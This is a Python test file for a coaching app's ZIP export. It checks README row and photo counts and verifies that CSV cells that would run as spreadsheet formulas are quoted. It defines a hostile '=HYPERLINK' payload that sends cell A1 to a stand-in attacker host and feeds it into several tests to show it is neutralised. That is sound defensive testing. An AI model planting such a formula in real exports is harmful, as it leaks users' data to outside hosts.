"""The export ZIP's README counts rows and photos in words that agree with the number;
no CSV cell is a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import coachbot
from coachbot.domain.progress.views import ClientRecord
from coachbot.reports.exports import CsvZipExportWriter


def readme(record: ClientRecord) -> str:
    (part,) = CsvZipExportWriter().archive(record, part_bytes=10_000_000)
    with zipfile.ZipFile(io.BytesIO(part)) as archive:
        return archive.read("README.txt").decode()


def test_one_row_and_one_photo_are_singular():
    record = ClientRecord(
        client_name="Cleo Park",
        exported_at=datetime(2026, 3, 2, tzinfo=UTC),
        tables={"profile": [{"name": "Cleo"}], "metrics": [{"v": 1}, {"v": 2}], "goals": []},
        photos=(("photos/1.jpg", b"jpeg"),),
    )
    text = readme(record)
    assert "- profile.csv (1 row)\n" in text
    assert "- metrics.csv (2 rows)\n" in text
    assert "- goals.csv (0 rows)\n" in text
    assert "- photos/ (1 photo, decrypted, EXIF-free JPEG)\n" in text


HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def cells_of(document: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(document.decode("utf-8-sig"))))


def test_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers():
    rows = [
        {"name": HOSTILE, "value": -1.5, "count": -3, "note": "+49 30 123"},
        {"name": "@SUM(1)", "value": 2.0, "count": 0, "note": "-"},
        {"name": "\t=1", "value": None, "count": True, "note": "\r=1"},
        {"name": "Cleo", "value": 0.5, "count": 1, "note": "a = b, -1"},
    ]
    record = ClientRecord("x", datetime(2026, 3, 2, tzinfo=UTC), {"metrics": rows}, ())
    assert cells_of(CsvZipExportWriter().metrics_csv(record)) == [
        ["name", "value", "count", "note"],
        [f"'{HOSTILE}", "-1.5", "-3", "'+49 30 123"],
        ["'@SUM(1)", "2.0", "0", "'-"],
        ["'\t=1", "", "True", "'\r=1"],
        ["Cleo", "0.5", "1", "a = b, -1"],
    ]


def test_every_csv_file_of_an_archive_is_neutralised():
    tables = {
        "profile": [{"name": HOSTILE, "tags": ["=1"]}],
        "notes": [{"-header": "x", "text": "-1+1"}],  # even a column name
    }
    record = ClientRecord(HOSTILE, datetime(2026, 3, 2, tzinfo=UTC), tables, ())
    (part,) = CsvZipExportWriter().archive(record, part_bytes=10_000_000)
    with zipfile.ZipFile(io.BytesIO(part)) as archive:
        files = [archive.read(n) for n in archive.namelist() if n.endswith(".csv")]
    cells = [cell for document in files for row in cells_of(document) for cell in row]
    assert sorted(cells) == sorted(
        ["name", "tags", f"'{HOSTILE}", '["=1"]', "'-header", "text", "x", "'-1+1"]
    )


def test_csv_is_written_in_one_place_only():
    """A new CSV writer elsewhere would skip `spreadsheet_cell`: write through `_csv`."""
    package = Path(coachbot.__file__).parent
    writers = sorted(
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if re.search(r"\bcsv\.(writer|DictWriter)\b|\bwriterows?\(", path.read_text("utf-8"))
    )
    assert writers == ["reports/exports.py"]
